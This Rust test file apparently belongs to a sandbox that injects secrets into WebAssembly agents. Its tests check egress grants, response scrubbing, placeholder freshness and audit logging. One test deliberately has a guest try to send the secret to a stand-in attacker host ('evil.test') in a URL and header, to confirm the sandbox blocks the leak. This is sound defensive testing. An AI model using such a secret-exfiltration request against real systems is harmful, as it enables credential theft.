//! One test for each law, which fails when the law is broken.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use strongroom::audit::{AuditSink, Record};
use strongroom::{End, Rule};
use strongroom_demo::server::respond;
use strongroom_tests::{AgentFixture, VALUE, requests_of};

#[test]
fn law_1_the_server_gets_the_value_and_the_guest_never_does() {
    let ran = AgentFixture::new().run(&["env", "args", "open KEY", "send GET https://api.test/v1/echo/raw h:authorization=Bearer+{KEY}"]);

    assert_eq!(ran.seen[0].header("authorization"), format!("Bearer {VALUE}"));
    assert!(ran.stdout.contains("env KEY=pf_live_"), "{}", ran.stdout);
    assert!(ran.searched > 1 << 20, "the guest's memory was searched");
}

#[test]
fn law_1_a_value_that_does_reach_a_guest_is_found_in_its_memory() {
    // The same run with the value handed over as an argument: the search must notice.
    let planted = format!("log {VALUE}");

    let ran = AgentFixture::new().try_run(&[&planted]).unwrap();

    assert!(ran.leaks.iter().any(|leak| leak.contains("guest memory")), "{:?}", ran.leaks);
    // And the log was scrubbed all the same.
    assert!(!ran.log.contains(VALUE), "{}", ran.log);
}

#[test]
fn law_2_an_agent_without_a_grant_can_compute_and_log_and_nothing_else() {
    let ran = AgentFixture::with("").run(&["files", "socket", "stdin", "env", "args", "log done", "send GET https://api.test/v1/"]);

    assert!(ran.stdout.contains("files Err("), "{}", ran.stdout);
    assert_eq!(ran.stdout.matches("Err(").count(), 5, "every file and socket is refused: {}", ran.stdout);
    assert!(ran.stdout.contains("stdin Ok(0)"), "{}", ran.stdout);
    assert!(!ran.stdout.contains("env "), "no environment is inherited: {}", ran.stdout);
    assert!(ran.log.contains("done"));
    assert_eq!(ran.denied(), [Rule::Destination.as_str()]);
    assert!(ran.seen.is_empty());
}

#[test]
fn law_4_the_value_goes_to_the_granted_host_method_path_and_place_alone() {
    let ran = AgentFixture::granted("host = \"api.test\"\npaths = [\"/v1/me\"]\nplace = [\"header:x-api-key\"]").run(&[
        "send GET https://api.test/v1/me h:x-api-key={KEY}",
        "send GET https://other.test/v1/me h:x-api-key={KEY}",
        "send POST https://api.test/v1/me h:x-api-key={KEY}",
        "send GET https://api.test/v1/you h:x-api-key={KEY}",
        "send GET https://api.test/v1/me h:x-other={KEY}",
        "send GET http://api.test/v1/me h:x-api-key={KEY}",
    ]);

    assert_eq!(ran.seen.len(), 1);
    assert_eq!(ran.seen[0].header("x-api-key"), VALUE);
    assert_eq!(ran.denied(), ["destination", "method", "path", "misplaced-placeholder", "destination"]);
}

#[test]
fn law_5_an_echo_comes_back_as_the_placeholder() {
    let ran = AgentFixture::new().run(&["env", "send GET https://api.test/v1/echo/raw h:authorization=Bearer+{KEY}"]);

    let placeholder = ran.stdout.lines().find_map(|line| line.strip_prefix("env KEY=")).unwrap().to_owned();
    assert!(ran.stdout.contains(&format!("<<{placeholder}>>")), "{}", ran.stdout);
}

#[test]
fn law_5_answers_are_scrubbed_whatever_the_request_carried() {
    // The server repeats the value from an earlier request, to one that carries nothing.
    let ran = AgentFixture::new()
        .server(|_| respond(200, "text/plain", format!("somebody's key is {VALUE}.")))
        .run(&["send GET https://api.test/v1/stored"]);

    assert!(ran.stdout.contains("somebody's key is pf_live_"), "{}", ran.stdout);
}

#[test]
fn law_6_no_log_record_error_or_trap_holds_the_value() {
    let ran = AgentFixture::new()
        .try_run(&[
            &format!("print {VALUE}"),
            &format!("log {VALUE}"),
            &format!("send GET https://evil.test/{VALUE} h:x-a={VALUE}"),
            &format!("open {VALUE}"),
            &format!("panic {VALUE}"),
        ])
        .unwrap();

    assert!(matches!(ran.outcome.end, End::Trap(_)));
    let outside: Vec<_> = ran.leaks.iter().filter(|leak| !leak.contains("guest memory")).collect();
    assert!(outside.is_empty(), "{outside:?} {:?}", ran.audit);
    assert!(ran.stderr.contains("panicked"), "{}", ran.stderr);
}

#[test]
fn law_7_a_denial_names_the_rule_and_prints_the_lines_that_would_allow_it() {
    let ran = AgentFixture::new().run(&["send POST https://other.test/v2/x h:authorization=Bearer+{KEY}"]);

    let denial = ran.records("denial")[0];
    let remedy = denial["remedy"].as_str().unwrap();
    let lines = remedy.split_once('\n').unwrap().1;
    let manifest = format!("name = \"a\"\ncomponent = \"a.wasm\"\n{lines}");
    let manifest = strongroom::Manifest::parse("agent.toml", &manifest).expect("the lines stand as they are");
    assert_eq!(manifest.secrets[0].allow[0].host.to_string(), "other.test");
    assert!(ran.stdout.contains("denied by rule `destination`"), "{}", ran.stdout);
    assert!(!ran.stdout.contains("api.test"), "the guest learns nothing of what is granted: {}", ran.stdout);
}

/// Fails from its `n`th record on.
struct FailsFrom(usize, AtomicUsize);

impl AuditSink for FailsFrom {
    fn record(&self, _records: &[Record<'_>]) -> std::io::Result<()> {
        let number = self.1.fetch_add(1, Ordering::SeqCst);
        if number < self.0 { Ok(()) } else { Err(std::io::Error::other("the disk is full")) }
    }
}

#[test]
fn law_8_no_record_no_effect() {
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&hits);

    let error = AgentFixture::new()
        .server(move |_| {
            counted.fetch_add(1, Ordering::SeqCst);
            respond(200, "text/plain", "")
        })
        .host(|host| host.audit(FailsFrom(1, AtomicUsize::new(0))))
        .try_run(&["send GET https://api.test/v1/x"])
        .err()
        .expect("a run whose log fails does not count");

    assert!(error.contains("audit log"), "{error}");
    assert_eq!(hits.load(Ordering::SeqCst), 0, "the request did not leave");
}

#[test]
fn law_8_the_record_is_there_when_the_request_arrives() {
    let kept = Kept::default();
    let records = Arc::clone(&kept.0);
    let at_arrival: Arc<Mutex<Vec<String>>> = Arc::default();
    let seen = Arc::clone(&at_arrival);

    let ran = AgentFixture::new()
        .server(move |_| {
            *seen.lock().unwrap() = records.lock().unwrap().clone();
            respond(200, "text/plain", "")
        })
        .host(move |host| host.audit(kept))
        .try_run(&["send GET https://api.test/v1/x h:authorization=Bearer+{KEY}"])
        .unwrap();

    assert_eq!(ran.outcome.end, End::Exit(0));
    let records = at_arrival.lock().unwrap();
    assert!(records.iter().any(|record| record.starts_with("Egress") && record.contains("/v1/x")), "{records:?}");
}

#[test]
fn law_8_the_log_tells_who_what_where_by_which_rule_and_never_what() {
    let ran = AgentFixture::new()
        .run(&["send POST https://api.test/v1/echo/raw?private=query h:authorization=Bearer+{KEY} h:x-private=header b:private-body"]);

    let egress = ran.records("egress")[0];
    assert_eq!(egress["agent"], "probe-1");
    assert_eq!(egress["method"], "POST");
    assert_eq!(egress["url"], "https://api.test/v1/echo/raw");
    assert_eq!(egress["rule"], "secrets.KEY.allow, line 6");
    assert_eq!(egress["secrets"][0]["name"], "KEY");
    assert_eq!(egress["secrets"][0]["place"], "header:authorization");
    assert_eq!(egress["secrets"][0]["fingerprint"].as_str().unwrap().len(), 8);
    let answer = ran.records("answer")[0];
    assert_eq!((answer["status"].as_u64(), answer["sent"].as_u64(), answer["redacted"].as_u64()), (Some(200), Some(12), Some(1)));
    assert!(answer.get("error").is_none(), "{answer}");
    assert!(!format!("{:?}", ran.audit).contains("private"), "{:?}", ran.audit);
    assert_eq!(ran.records("run-start").len(), 1);
    assert_eq!(ran.records("run-end")[0]["outcome"], "exit 0");
}

/// Keeps every record's event, as text.
#[derive(Clone, Default)]
struct Kept(Arc<Mutex<Vec<String>>>);

impl AuditSink for Kept {
    fn record(&self, records: &[Record<'_>]) -> std::io::Result<()> {
        self.0.lock().unwrap().extend(records.iter().map(|record| format!("{:?}", record.event)));
        Ok(())
    }
}

#[test]
fn law_8_a_run_that_is_dropped_midway_is_recorded_to_its_end() {
    use strongroom::{Host, Manifest, RunOptions};
    let kept = Kept::default();
    let host = Host::builder().audit(kept.clone()).without_state().max_agents(1).build().unwrap();
    let manifest = Manifest::parse("agent.toml", "name = \"a\"\ncomponent = \"a.wasm\"").unwrap();
    let agent = host.agent(manifest, &strongroom_components::bytes("probe")).unwrap();
    let began = Arc::new(tokio::sync::Notify::new());
    let begin = Arc::clone(&began);

    strongroom_tests::block_on(async {
        let options = RunOptions::default().args(["log begun", "sleep 3600000"]).on_log(move |_| begin.notify_one());
        tokio::select! {
            ended = agent.run(options) => panic!("it sleeps for an hour: {ended:?}"),
            () = began.notified() => {}
        }
    });

    let records = kept.0.lock().unwrap();
    assert!(records.last().unwrap().starts_with("RunEnd") && records.last().unwrap().contains("given up"), "{records:?}");
}

#[test]
fn placeholders_are_fresh_for_each_run() {
    let seen = |ran: &strongroom_tests::Ran| ran.stdout.lines().find_map(|line| line.strip_prefix("env KEY=")).unwrap().to_owned();
    let first = seen(&AgentFixture::new().run(&["env"]));
    let old = format!("send GET https://api.test/v1/x h:authorization=Bearer+{first}");

    let ran = AgentFixture::new().run(&["env", &old]);

    assert_ne!(seen(&ran), first);
    assert_eq!(ran.denied(), ["foreign-credential"]);
    assert!(requests_of(&ran.seen, "api.test").is_empty());
}
